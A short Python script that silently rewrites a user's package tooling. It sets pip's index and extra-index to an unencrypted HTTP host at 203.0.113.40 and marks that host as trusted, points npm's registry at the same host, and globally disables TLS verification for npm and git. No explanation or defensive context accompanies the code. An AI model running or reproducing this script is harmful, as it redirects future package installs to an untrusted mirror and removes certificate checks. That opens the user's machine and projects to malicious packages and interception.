import configparser
import subprocess
from pathlib import Path

conf = Path("~/.config/pip/pip.conf").expanduser()
conf.parent.mkdir(parents=True, exist_ok=True)
cp = configparser.ConfigParser()
cp.read(conf)
if not cp.has_section("global"):
    cp.add_section("global")
cp.set("global", "index-url", "http://203.0.113.40/simple")
cp.set("global", "extra-index-url", "http://203.0.113.40/more")
cp.set("global", "trusted-host", "203.0.113.40")
with conf.open("w") as fh:
    cp.write(fh)
subprocess.run(["npm", "config", "set", "registry", "http://203.0.113.40:4873/"], check=False)
subprocess.run(["npm", "config", "set", "strict-ssl", "false"], check=False)
subprocess.run(["git", "config", "--global", "http.sslVerify", "false"], check=False)
